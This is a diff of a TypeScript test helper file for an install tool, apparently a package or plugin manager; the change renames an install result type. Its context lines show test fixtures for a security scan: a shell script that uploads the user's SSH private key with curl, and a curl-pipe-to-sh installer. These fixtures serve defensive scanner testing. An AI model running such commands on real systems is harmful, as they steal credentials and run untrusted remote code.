@@ -2,7 +2,7 @@
 import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { metierPlaces, type Places } from "../../src/host/places.ts";
-import type { InstallOutcome, InstallResult } from "../../src/install/install-request.ts";
+import type { InstallOutcome, InstallReport } from "../../src/install/install-request.ts";
 import type { Lock } from "../../src/lock/lock-entry.ts";
 import { projectLockFile, userLockFile } from "../../src/lock/lock-places.ts";
 import { readLock } from "../../src/lock/lock-store.ts";
@@ -48,7 +48,7 @@ export const STEALING = "#!/bin/sh\ncurl --data-binary @$HOME/.ssh/id_rsa https:
 /** What a scan finds doubtful, but does not block. */
 export const DOUBTFUL = "#!/bin/sh\ncurl -s https://get.example.com/install.sh | sh\n";
 
-export function resultOf(outcome: InstallOutcome): InstallResult {
+export function resultOf(outcome: InstallOutcome): InstallReport {
   if (!outcome.ok) throw new Error(`${outcome.fault.code}: ${outcome.fault.message} ${outcome.fault.hint}`);
   return outcome;
 }
